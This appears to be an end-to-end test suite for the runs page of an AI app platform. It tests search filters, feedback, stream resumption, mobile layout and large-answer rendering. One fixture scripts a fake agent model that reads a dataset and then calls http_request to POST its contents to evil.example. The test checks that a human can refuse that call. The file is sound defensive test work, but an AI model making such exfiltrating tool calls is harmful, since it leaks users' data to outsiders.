"""What a person does on the page of runs: find one, read what its model was asked, judge it, answer what it asks.

And what the page weighs before anything of it is seen.
"""

import gzip
import json
import re
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest
from playwright.sync_api import Browser, Locator, Page, Request, Route, expect

from tests.e2e import hostile
from tests.e2e.browsing import NARROW, Owner, chromium_running, shoot, sign_in, visiting
from tests.e2e.conftest import Site, dataset_create, events_of, ok, provider_lent

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(400)]
MODEL = "smollm2-135m-instruct"
PROMPT = "You are the clerk of the harbour of Korvala. Answer in five words."
FIRST_LOAD_BYTES = 350_000
HUGE = "The ferry **left** pier nine at 07:40.\n\n"
DRAWN_CHARS, DRAWN_NODES = 200_000, 12_000


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium_running() as running:
        yield running


@pytest.fixture(scope="module")
def owner(site: Site, browser: Browser) -> Owner:
    with visiting(browser, Owner(site.url)) as page:
        sign_in(page)
        return Owner(site.url, page.context.storage_state())


def runs_page(page: Page) -> None:
    """Go to the list of runs."""
    page.goto("/")
    page.wait_for_url("**/home")
    page.get_by_role("link", name="Runs", exact=True).first.click()
    expect(page.get_by_role("heading", level=1)).to_have_text("Runs")


def chat_runs(site: Site, *questions: str) -> list[str]:
    """Ask the draft of a new chat app; returns the ids of the runs, oldest first."""
    ids = []
    with site.console() as console:
        app = ok(console.post("/apps", json={"name": "Clerk", "mode": "chat"}))
        draft = {"model": {"id": MODEL, "parameters": {"max_tokens": 12}}, "prompt": PROMPT}
        ok(console.put(f"/apps/{app['id']}/draft", json=draft))
        for question in questions:
            answer = console.post(f"/apps/{app['id']}/runs", json={"query": question})
            assert answer.is_success, answer.text
            ids.append(answer.headers["X-Run-Id"])
    return ids


class Writer(hostile._Handler):
    """A model that reads a dataset, wants to write to a stranger's address, and then answers."""

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._open("text/event-stream")
        told = sum(message["role"] == "tool" for message in body["messages"])
        names = [tool["function"]["name"] for tool in body.get("tools", [])]
        if told == 0:
            self._call(next(name for name in names if name != "http_request"), {"query": "soup"})
        elif told == 1:
            self._call("http_request", {"url": "https://evil.example/", "method": "POST", "body": "the recipe"})
        else:
            self._delta({"content": "Dill and allspice."})
            self._end("stop")

    def _call(self, name: str, arguments: dict[str, str]) -> None:
        function = {"name": name, "arguments": json.dumps(arguments)}
        self._delta({"tool_calls": [{"index": 0, "id": f"call_{name}", "type": "function", "function": function}]})
        self._end("tool_calls")


@pytest.fixture
def paused(site: Site) -> Iterator[str]:
    """A run whose agent has read a document and now waits for a person before it writes."""
    model = {"name": "writer", "kind": "chat", "context_tokens": 8192, "supports_tools": True}
    with (
        hostile.hostile_server() as server,
        site.console() as console,
        provider_lent(console, "scribe", server.base_url, model),
    ):
        server.RequestHandlerClass = Writer
        app = ok(console.post("/apps", json={"name": "Cook", "mode": "agent"}))
        draft = {
            "model": {"id": "scribe/writer", "parameters": {}},
            "datasets": [dataset_create(console, "Recipes")],
            "tools": [{"name": "http_request", "config": {"methods": ["GET", "POST"]}}],
        }
        ok(console.put(f"/apps/{app['id']}/draft", json=draft))
        asked = {"query": "What goes into the soup?"}
        with console.stream("POST", f"/apps/{app['id']}/runs", json=asked) as answer:
            assert answer.is_success, answer.read()
            run_id = str(answer.headers["X-Run-Id"])
            assert any(event.name == "run_paused" for event in events_of(answer))
        assert ok(console.get(f"/runs/{run_id}"))["status"] == "paused"
        yield run_id


def test_filters_stand_in_the_address_and_the_prompt_and_a_verdict_in_the_run(
    site: Site, browser: Browser, owner: Owner
) -> None:
    _, wanted = chat_runs(site, "Who paints the boats?", "Which pier has the crane?")
    with visiting(browser, owner) as page:
        runs_page(page)
        page.get_by_role("textbox", name="Search what went in and came out").fill("pier crane")
        rows = page.get_by_role("row").filter(has=page.get_by_role("link"))
        expect(rows).to_have_count(1)
        page.get_by_role("button", name="More filters").click()
        page.get_by_label("Tokens from").fill("1")
        page.get_by_role("button", name="Apply").click()
        expect(page).to_have_url(re.compile(r"search=pier(\+|%20)crane.*tokens_min=1"))
        expect(page.get_by_role("status").filter(has_text="1 run")).to_be_visible()
        page.reload()
        expect(page.get_by_role("textbox", name="Search what went in and came out")).to_have_value("pier crane")
        expect(page.get_by_role("group", name="Filters that are set")).to_contain_text("Tokens from: 1")
        expect(rows).to_have_count(1)

        page.get_by_role("button", name="Views").click()
        page.get_by_role("textbox", name="Name of the view").fill("Cranes")
        page.get_by_role("button", name="Save").click()
        expect(page.get_by_role("menuitem", name="Cranes")).to_be_visible()
        page.keyboard.press("Escape")
        page.get_by_role("button", name="Clear", exact=True).last.click()
        expect(rows.nth(1)).to_be_visible()
        page.reload()
        page.get_by_role("button", name="Views").click()
        page.get_by_role("menuitem", name="Cranes").click()
        page.keyboard.press("Escape")
        expect(rows).to_have_count(1)

        page.get_by_role("link", name="Which pier has the crane?").click()
        expect(page).to_have_url(re.compile(f"{wanted}.*search="))
        run = page.get_by_role("dialog", name="Run")
        sent = run.get_by_role("region", name="Prompt as sent")
        expect(sent).to_contain_text(PROMPT)
        expect(sent).to_contain_text("Which pier has the crane?")
        expect(sent).to_contain_text("max_tokens=12")
        shoot(page, "run-prompt")
        run.get_by_role("button", name="Good answer").click()
        run.get_by_role("button", name="Comment on the verdict").click()
        page.get_by_role("textbox", name="Comment on the verdict").fill("short and right")
        page.get_by_role("button", name="Save").last.click()
        with site.console() as console:
            expect(run.get_by_role("button", name="Good answer")).to_have_attribute("aria-pressed", "true")
            page.reload()
            expect(run.get_by_role("button", name="Good answer")).to_have_attribute("aria-pressed", "true")
            assert ok(console.get(f"/runs/{wanted}"))["feedback"] == {"rating": "like", "comment": "short and right"}
            liked = ok(console.get("/runs", params={"feedback": "like", "search": "crane"}))["results"]
            assert [each["id"] for each in liked] == [wanted]

        page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        run.get_by_role("button", name="More actions").click()
        page.get_by_role("menuitem", name="Copy as curl").click()
        expect(page.get_by_role("menuitem", name="Copied")).to_be_visible()
        copied = page.evaluate("navigator.clipboard.readText()")
        body = json.loads(copied.splitlines()[-1].strip().removeprefix("-d '").removesuffix("'"))
        assert f"{site.url}/v1/chat-messages" in copied and "$ATELIER_APP_KEY" in copied
        assert body["query"] == "Which pier has the crane?" and "conversation_id" not in body
        page.keyboard.press("Escape")

        run.get_by_role("button", name="Replay on draft").click()
        expect(page).not_to_have_url(re.compile(wanted))
        expect(run).to_contain_text("Succeeded", timeout=60_000)
        expect(run).to_contain_text("Which pier has the crane?")


def test_a_paused_run_is_answered_from_the_page(site: Site, browser: Browser, owner: Owner, paused: str) -> None:
    with visiting(browser, owner) as page:
        runs_page(page)
        page.get_by_label("Status", exact=True).and_(page.locator("input")).first.click()
        page.get_by_role("option", name="Paused", exact=True).click()
        expect(page).to_have_url(re.compile("status=paused"))
        page.locator(f"a[href$='{paused}']").click()
        run = page.get_by_role("dialog", name="Run")
        expect(run).to_contain_text("May the agent call http_request?")
        expect(run).to_contain_text("https://evil.example/")
        shoot(page, "run-paused")
        run.get_by_role("button", name="Refuse").click()
        expect(run.get_by_text("Succeeded").first).to_be_visible(timeout=60_000)
        expect(run.get_by_role("button", name="Refuse")).to_have_count(0)
    with site.console() as console:
        told = ok(console.get(f"/runs/{paused}"))
        assert told["status"] == "succeeded" and "refused" in json.dumps(told["nodes"])


def test_a_cut_connection_resumes_its_stream_without_a_gap(site: Site, browser: Browser, owner: Owner) -> None:
    (run_id,) = chat_runs(site, "What does the lighthouse keeper eat?")
    asked: list[str | None] = []

    def cut(route: Route) -> None:
        """Let the first listener hear a part, and the next ones the rest."""
        asked.append(route.request.headers.get("last-event-id"))
        if len(asked) > 1:
            route.continue_()
            return
        whole = route.fetch().text()
        frames = whole.split("\n\n")
        route.fulfill(body="\n\n".join(frames[:4]) + "\n\n" + frames[4][:9], content_type="text/event-stream")

    with visiting(browser, owner) as page:
        page.route(f"**/runs/{run_id}/events", cut)
        runs_page(page)
        page.goto(f"{page.url}/{run_id}")
        run = page.get_by_role("dialog", name="Run")
        run.get_by_role("tab", name="Events").click()
        expect(run.get_by_text("run_finished")).to_be_visible()
        assert asked[0] is None and asked[1] is not None and len(asked) == 2
        numbers = run.get_by_label("Events").last.locator(":scope > * > :first-child > .mono:first-child")
        shown = [int(text) for text in numbers.all_inner_texts()]
        assert shown == sorted(set(shown)) and len(shown) >= 5


def test_the_list_and_a_run_fit_a_phone(site: Site, browser: Browser, owner: Owner) -> None:
    (run_id,) = chat_runs(site, "Is there fog?")
    with visiting(browser, owner, NARROW) as page:
        runs_page(page)
        shoot(page, "narrow-runs-list")
        assert page.evaluate("document.documentElement.scrollWidth") <= NARROW[0]
        page.get_by_role("button", name=re.compile("Is there fog")).first.click()
        run = page.get_by_role("dialog", name="Run")
        expect(run.get_by_role("region", name="Prompt as sent")).to_contain_text("Is there fog?")
        shoot(page, "narrow-run")
        assert page.evaluate("document.documentElement.scrollWidth") <= NARROW[0]
        assert run_id in page.url


@pytest.mark.parametrize("place", ["/login", "/"])
def test_the_first_load_is_small(site: Site, browser: Browser, owner: Owner, place: str) -> None:
    """All JavaScript that the build sends before the page rests: of a visitor, and of a member who lands at home."""
    named: set[str] = set()

    def note(request: Request) -> None:
        if request.resource_type == "script":
            named.add(request.url)

    with visiting(browser, Owner(site.url) if place == "/login" else owner) as page:
        page.on("request", note)
        page.goto(place)
        expect(page.get_by_role("heading", level=1)).to_be_visible()
        page.wait_for_load_state("networkidle")
    scripts = {url: len(gzip.compress(httpx.get(url).content, 9)) for url in named}
    assert len(scripts) > 5
    assert sum(scripts.values()) <= FIRST_LOAD_BYTES, f"{sum(scripts.values())} bytes: {scripts}"


def huge_answer(page: Page, path: str, put: Callable[[Any, str], None]) -> None:
    """Put five megabytes into what the server tells: no model here writes as much."""
    text = HUGE * (5_000_000 // len(HUGE))

    def told(route: Route) -> None:
        body = route.fetch().json()
        put(body, text)
        route.fulfill(json=body)

    page.route(re.compile(f"/api/v1{path}"), told)


def bounded(page: Page, place: Locator) -> None:
    """Of the whole text only a part ever stands in the page, and the rest is offered: drawing is what freezes it."""
    more = place.get_by_role("button", name=re.compile(r"^(… )?Show more"))
    expect(more.first).to_be_visible()
    for _ in range(2):
        assert page.evaluate("document.querySelectorAll('*').length") < DRAWN_NODES
        assert len(place.inner_text()) < DRAWN_CHARS
        more.first.click()
        expect(more.first).to_be_visible()


def test_an_answer_of_five_megabytes_does_not_freeze_the_page(site: Site, browser: Browser, owner: Owner) -> None:
    question = "Read me the log."
    (run_id,) = chat_runs(site, question)
    with site.console() as console:
        run = ok(console.get(f"/runs/{run_id}"))

    def into_message(messages: Any, text: str) -> None:
        messages["results"][0]["answer"] = text

    with visiting(browser, owner) as page:
        huge_answer(page, f"/runs/{run_id}$", lambda told, text: told.update(answer=text))
        runs_page(page)
        page.get_by_role("link", name=question).first.click()
        bounded(page, page.get_by_role("dialog", name="Run"))

        huge_answer(page, f"/apps/{run['app']['id']}/conversations/[^/]+/messages", into_message)
        workspace = page.url.split("/runs")[0]
        page.goto(f"{workspace}/apps/{run['app']['id']}/build?conversation={run['conversation_id']}")
        bounded(page, page.get_by_role("article", name="Answer").first)
